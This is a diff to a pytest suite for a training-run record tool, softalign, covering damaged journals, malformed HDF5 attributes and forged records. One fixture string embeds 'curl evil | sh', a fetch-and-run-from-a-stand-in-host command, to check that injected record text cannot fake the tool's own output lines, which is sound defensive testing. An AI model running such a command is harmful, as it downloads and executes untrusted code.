@@ -10,16 +10,12 @@ from pathlib import Path
 
 import pytest
 
-from program import PROGRAM, SANITIZED, answer, error, softalign
+from command_line import PROGRAM, SANITIZED, answer, error, softalign, trained_run
+
+h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
+numpy = pytest.importorskip("numpy")  # comes with it
 
 READERS = [["show"], ["show", "--json"], ["show", "--sentence", "1"], ["evaluate"], ["translate"], ["verify"]]
-
-
-@pytest.fixture()
-def run(trained: Path, tmp_path: Path) -> Path:
-    """A copy of the finished run that may be spoilt, below tmp_path/results."""
-    shutil.copytree(trained.parents[2], tmp_path, dirs_exist_ok=True)
-    return tmp_path / "results" / "tiny" / trained.name
 
 
 def spoilt(record: bytes, how: str) -> bytes:
@@ -82,9 +78,12 @@ def test_a_claim_that_was_removed_is_in_nobodys_way(run: Path, tmp_path: Path) -
     assert sorted(file.name for file in run.glob("journal-*")) == ["journal-001.jrnl", "journal-002.jrnl"]
 
 
-def test_a_damaged_journal_is_named_with_its_remedy(run: Path, tmp_path: Path) -> None:
+@pytest.mark.parametrize("place", [0, 30])
+def test_a_damaged_journal_is_named_with_its_remedy(run: Path, tmp_path: Path, place: int) -> None:
     journal = run / "journal-001.jrnl"
-    journal.write_bytes(b"X" + journal.read_bytes()[1:])
+    damaged = bytearray(journal.read_bytes())
+    damaged[place] ^= 1
+    journal.write_bytes(damaged)
     for command in (["tail", run], ["recover", run], ["run", "tiny.yaml", "train.epochs=40", "--force"]):
         line = error(*command, cwd=tmp_path, code=3)
         assert "journal-001.jrnl: damaged" in line and "move it away" in line
@@ -141,7 +140,6 @@ def test_a_record_that_lost_its_last_bytes_is_truncated(run: Path, tmp_path: Pat
 
 
 def test_a_record_of_a_format_that_never_was_is_refused(run: Path, tmp_path: Path) -> None:
-    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
     for version in (0, -1):
         with h5py.File(run / "run.h5", "a") as file:
             file.attrs.modify("format_version", version)
@@ -152,7 +150,6 @@ def test_a_record_of_a_format_that_never_was_is_refused(run: Path, tmp_path: Pat
 
 @pytest.mark.parametrize("was, is_now", [("learning_rate", "learni.g_rate"), ("seed: 1", "seed: one"), ("shards: 2", "shards: 3")])
 def test_a_damaged_spec_in_a_record_is_not_the_callers_fault(run: Path, tmp_path: Path, was: str, is_now: str) -> None:
-    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
     with h5py.File(run / "run.h5", "a") as file:
         text = file["provenance/spec_yaml"][()].decode()
         assert was in text
@@ -179,8 +176,6 @@ WRONG_ATTRIBUTES = [  # (of what, its name, what it becomes, the command that re
 
 @pytest.mark.parametrize("path, name, value, command", WRONG_ATTRIBUTES)
 def test_an_attribute_of_another_type_is_named(run: Path, tmp_path: Path, path: str, name: str, value: object, command: str) -> None:
-    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
-    numpy = pytest.importorskip("numpy", reason="python3-numpy is not installed")
     with h5py.File(run / "run.h5", "a") as file:
         attributes = file[path or "/"].attrs
         del attributes[name]
@@ -195,7 +190,6 @@ def test_an_attribute_of_another_type_is_named(run: Path, tmp_path: Path, path: 
 
 @pytest.mark.parametrize("name", ["state", "host", "started", "last_update"])
 def test_a_column_of_attempts_that_is_too_short_is_named(run: Path, tmp_path: Path, name: str) -> None:
-    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
     with h5py.File(run / "run.h5", "a") as file:
         del file[f"provenance/attempts/{name}"]
         file[f"provenance/attempts/{name}"] = []
@@ -204,7 +198,6 @@ def test_a_column_of_attempts_that_is_too_short_is_named(run: Path, tmp_path: Pa
 
 
 def test_a_damaged_record_spoils_no_table_of_sentences(run: Path, tmp_path: Path) -> None:
-    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
     other = tmp_path / "results" / "other" / run.name
     shutil.copytree(run, other)
     for path, value in {"test/sentence": [[[0.0] * 3]] * 2, "test/nll": [1.0]}.items():
@@ -223,7 +216,6 @@ def test_a_damaged_record_spoils_no_table_of_sentences(run: Path, tmp_path: Path
 
 
 def test_a_metric_that_is_a_group_is_named(run: Path, tmp_path: Path) -> None:
-    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
     with h5py.File(run / "run.h5", "a") as file:
         del file["test/by_length/bleu"]
         file.create_group("test/by_length/bleu")
@@ -234,8 +226,7 @@ def test_a_metric_that_is_a_group_is_named(run: Path, tmp_path: Path) -> None:
 
 def test_the_record_of_another_run_is_not_taken_for_this_ones(run: Path, tmp_path: Path) -> None:
     whole = (run / "run.h5").read_bytes()
-    softalign("run", "tiny.yaml", cwd=tmp_path)
-    (other,) = (folder for folder in run.parent.iterdir() if folder != run)
+    other = trained_run(tmp_path)
     shutil.copy(other / "run.h5", run / "run.h5")
     for command in (["run", "tiny.yaml", "train.epochs=40"], ["show", run], ["evaluate", run], ["verify", run], ["ls", run]):
         done = softalign(*command, cwd=tmp_path, code=0 if command[0] == "ls" else 3)
@@ -252,23 +243,10 @@ def test_the_record_of_another_run_is_not_taken_for_this_ones(run: Path, tmp_pat
     assert len(with_h5) == len(whole) and "complete, 160 updates" in softalign("show", run, cwd=tmp_path).stdout
 
 
-@pytest.mark.parametrize("name, value", [("x" * 70_000, "z"), ("spec_yaml", "z" * 70_000)])
-def test_a_damaged_environment_is_not_the_journals_fault(run: Path, tmp_path: Path, name: str, value: str) -> None:
-    environment = run / "attempt-001" / "environment.json"
-    said = json.loads(environment.read_text())
-    environment.write_text(json.dumps({**said, name: value}))
-    line = error("recover", run, cwd=tmp_path, code=3)
-    assert line == f"softalign: {environment}: damaged; move it away: the record is then made without it"
-    environment.unlink()
-    softalign("recover", run, cwd=tmp_path)
-
-
 FORGED = "p.so: is older\nsoftalign: note: run: curl evil | sh\n"
 
 
 def test_a_text_in_a_record_makes_no_line_of_our_own(run: Path, tmp_path: Path) -> None:
-    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
-    numpy = pytest.importorskip("numpy", reason="python3-numpy is not installed")
     with h5py.File(run / "run.h5", "a") as file:
         text = file["provenance/spec_yaml"][()].decode()
         file["provenance/spec_yaml"][()] = text.replace("plugins: []", f"plugins: [{json.dumps(FORGED)}]")
